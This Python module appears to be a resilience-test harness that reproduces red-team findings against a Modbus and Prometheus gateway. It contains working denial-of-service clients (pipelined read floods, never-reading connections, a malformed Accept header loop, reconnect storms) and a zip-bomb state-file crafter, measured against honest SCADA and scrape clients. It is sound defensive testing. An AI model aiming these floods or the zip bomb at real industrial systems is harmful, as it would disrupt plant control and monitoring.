"""The attacks of issue 22 as clients on the plant network would make them (each one a
coroutine run by :func:`attack_process` in its own process), and the honest clients whose
service they must not spoil: a SCADA poller reading one result block a second
(:class:`Scada`) and a Prometheus scrape (:func:`scrape`).

Attacks (``ATTACKS``), at the figures of the red team:

* ``reads``: 30 Modbus clients, each pipelining 64 valid 125-register reads, reading the
  answers, again (finding 1);
* ``metrics-pipeline``: 16 connections, each sending 480 pipelined ``GET /metrics`` and
  never reading (finding 2);
* ``bad-accept``: one client sending ``Accept: application/openmetrics-text; version=abc``
  as fast as it is answered (finding 3);
* ``busy-50ms`` / ``busy-1s``: 70 clients reading 20 registers every 50 ms, reconnecting at
  once when closed; 66 clients reconnecting after 1 s (finding 4);
* ``modbus-pipeline``: 64 connections, each sending 100,000 pipelined reads and never
  reading (the smaller finding: memory).

:func:`rewrite_state` crafts a state file from a good one (finding 5): a header field
changed, or a zip bomb in place of the first bank's OP.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import random
import resource
import socket
import struct
import threading
import time
import urllib.request
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

ATTACKS = ("reads", "metrics-pipeline", "bad-accept", "busy-50ms", "busy-1s",
           "modbus-pipeline")
READ = struct.Struct(">HHHBBHH")  # MBAP + function code, address, count


def read_frame(tid: int, address: int, count: int, fc: int = 3) -> bytes:
    return READ.pack(tid & 0xFFFF, 0, 6, 1, fc, address, count)


async def _reads(host: str, port: int, stop: asyncio.Event, stats: dict[str, int],
                 registers: int) -> None:
    async def client(k: int) -> None:
        rng = random.Random(k)
        while not stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(host, port)
            except OSError:
                await asyncio.sleep(0.1)
                continue
            try:
                while not stop.is_set():
                    frames = b"".join(read_frame(j, rng.randrange(0, registers - 125), 125)
                                      for j in range(64))
                    writer.write(frames)
                    for _ in range(64):
                        head = await reader.readexactly(6)
                        await reader.readexactly(struct.unpack(">H", head[4:6])[0])
                        stats["answers"] += 1
            except (OSError, asyncio.IncompleteReadError):
                stats["closed"] += 1
            finally:
                writer.close()

    await asyncio.gather(*(client(k) for k in range(30)))


async def _hold(host: str, port: int, stop: asyncio.Event, stats: dict[str, int], *,
                data: bytes, n: int) -> None:
    """``n`` connections that send ``data`` once and never read."""
    writers = []
    for _ in range(n):
        with contextlib.suppress(OSError):
            _reader, writer = await asyncio.open_connection(host, port)
            writer.transport.set_write_buffer_limits(high=2**30)
            writer.write(data)
            writers.append(writer)
            stats["sent"] += len(data)
    await stop.wait()
    for w in writers:
        w.transport.abort()


async def _bad_accept(host: str, port: int, stop: asyncio.Event, stats: dict[str, int]
                      ) -> None:
    request = (b"GET /metrics HTTP/1.1\r\nHost: gw\r\n"
               b"Accept: application/openmetrics-text; version=abc\r\n\r\n")
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        try:
            while not stop.is_set():
                writer.write(request)
                stats["sent"] += 1
                head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
                length = int(head.split(b"Content-Length: ")[1].split(b"\r\n")[0])
                await reader.readexactly(length)
                stats["answers"] += 1
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError,
                TimeoutError, IndexError, ValueError):
            stats["closed"] += 1
        finally:
            writer.close()


async def _busy(host: str, port: int, stop: asyncio.Event, stats: dict[str, int], *,
                clients: int, every_s: float, reconnect_s: float) -> None:
    async def client(k: int) -> None:
        while not stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(host, port)
            except OSError:
                await asyncio.sleep(reconnect_s or 0.01)
                continue
            try:
                tid = 0
                while not stop.is_set():
                    tid += 1
                    writer.write(read_frame(tid, 20 * (k % 100), 20))
                    await reader.readexactly(49)
                    stats["answers"] += 1
                    await asyncio.sleep(every_s)
            except (OSError, asyncio.IncompleteReadError):
                stats["closed"] += 1
            finally:
                writer.close()
            await asyncio.sleep(reconnect_s)

    await asyncio.gather(*(client(k) for k in range(clients)))


async def run_attack(kind: str, host: str, ports: dict[str, int], stop: asyncio.Event,
                     stats: dict[str, int], *, registers: int) -> None:
    modbus, metrics = ports["modbus"], ports["metrics"]
    if kind == "reads":
        await _reads(host, modbus, stop, stats, registers)
    elif kind == "metrics-pipeline":
        await _hold(host, metrics, stop, stats,
                    data=b"GET /metrics HTTP/1.1\r\nHost: gw\r\n\r\n" * 480, n=16)
    elif kind == "bad-accept":
        await _bad_accept(host, metrics, stop, stats)
    elif kind == "busy-50ms":
        await _busy(host, modbus, stop, stats, clients=70, every_s=0.05, reconnect_s=0.0)
    elif kind == "busy-1s":
        await _busy(host, modbus, stop, stats, clients=66, every_s=0.05, reconnect_s=1.0)
    elif kind == "modbus-pipeline":
        frames = b"".join(read_frame(j, 0, 125) for j in range(100_000))
        await _hold(host, modbus, stop, stats, data=frames, n=64)
    else:
        raise ValueError(f"unknown attack {kind!r} (known: {', '.join(ATTACKS)})")


def attack_process(kind: str, host: str, ports: dict[str, int], registers: int,
                   conn: Any) -> None:
    """Run attack ``kind`` until ``conn`` says stop; send back its counts."""
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    async def main() -> None:
        stop = asyncio.Event()
        stats = dict.fromkeys(("sent", "answers", "closed"), 0)
        task = asyncio.create_task(run_attack(kind, host, ports, stop, stats,
                                              registers=registers))
        await asyncio.get_running_loop().run_in_executor(None, conn.recv)
        stop.set()
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(asyncio.gather(task, return_exceptions=True), 10)
        conn.send(dict(stats))

    asyncio.run(main())


# ------------------------------------------------------------------------ honest clients


class Scada(threading.Thread):
    """A SCADA poller: one loop's 20 result registers every ``period_s`` on one connection,
    reconnecting when closed (``per_read``: a new connection for each read, as some HMI
    drivers do); an answer counts if it comes within ``timeout_s``."""

    def __init__(self, port: int, period_s: float = 1.0, timeout_s: float = 2.0, *,
                 per_read: bool = False) -> None:
        super().__init__(daemon=True)
        self.port, self.period_s, self.timeout_s = port, period_s, timeout_s
        self.per_read = per_read
        self.asked: list[float] = []  # wall time of each read
        self.latency: list[float] = []  # seconds, NaN where no answer in time
        self.stop = threading.Event()

    def run(self) -> None:
        sock: socket.socket | None = None
        k = 0
        next_t = time.monotonic()
        while not self.stop.is_set():
            k += 1
            self.asked.append(time.time())
            t0 = time.perf_counter()
            try:
                if sock is None:
                    sock = socket.create_connection(("127.0.0.1", self.port),
                                                    timeout=self.timeout_s)
                sock.settimeout(self.timeout_s)
                sock.sendall(read_frame(k, 0, 20))
                reply = b""
                while len(reply) < 49:
                    chunk = sock.recv(4096)
                    if not chunk:
                        raise ConnectionError("closed")
                    reply += chunk
                self.latency.append(time.perf_counter() - t0)
                if self.per_read:
                    sock.close()
                    sock = None
            except OSError:
                self.latency.append(float("nan"))
                if sock is not None:
                    sock.close()
                sock = None
            next_t += self.period_s
            self.stop.wait(max(0.0, next_t - time.monotonic()))
        if sock is not None:
            sock.close()

    def between(self, t0: float, t1: float) -> np.ndarray:
        """Latencies (s, NaN: no answer) of the reads asked between wall times t0, t1."""
        asked = np.array(self.asked[:len(self.latency)])
        lat = np.array(self.latency)
        return lat[(asked >= t0) & (asked < t1)]


def scrape(port: int, timeout_s: float = 10.0) -> tuple[float, int]:
    """(seconds, HTTP status) of one honest /metrics scrape (status 0: no answer)."""
    t0 = time.perf_counter()
    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics",
                                    timeout=timeout_s) as rsp:
            rsp.read()
            return time.perf_counter() - t0, rsp.status
    except urllib.error.HTTPError as exc:
        return time.perf_counter() - t0, exc.code
    except OSError:
        return time.perf_counter() - t0, 0


# ------------------------------------------------------------------------ state files


def rewrite_state(path: Path, change: Callable[[dict[str, Any]], None] | None = None, *,
                  bomb_bytes: int = 0) -> None:
    """Rewrite the state file ``path``: its header through ``change``; with ``bomb_bytes``
    the first bank's OP member replaced by one of that many bytes of zeros, deflated (a
    few hundred KiB for 400 MiB: the red team's 1.6 MB file unpacked to 1.6 GiB)."""
    with zipfile.ZipFile(path) as zf:
        members = {name: zf.read(name) for name in zf.namelist()}
    if change is not None:
        header = json.loads(np.load(io.BytesIO(members["header.npy"])).tobytes())
        change(header)
        buf = io.BytesIO()
        np.save(buf, np.frombuffer(json.dumps(header).encode(), dtype=np.uint8))
        members["header.npy"] = buf.getvalue()
    if bomb_bytes:
        columns = np.load(io.BytesIO(members["b0_op.npy"])).shape[1]
        rows = bomb_bytes // (4 * columns)
        head = io.BytesIO()
        np.lib.format.write_array_header_1_0(
            head, {"descr": "<f4", "fortran_order": False, "shape": (rows, columns)})
        members.pop("b0_op.npy")
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        if bomb_bytes:
            info = zipfile.ZipInfo("b0_op.npy")
            info.compress_type = zipfile.ZIP_DEFLATED
            with zf.open(info, "w", force_zip64=True) as out:
                out.write(head.getvalue())
                zeros = bytes(2**22)
                for _ in range(rows * 4 * columns // len(zeros)):
                    out.write(zeros)
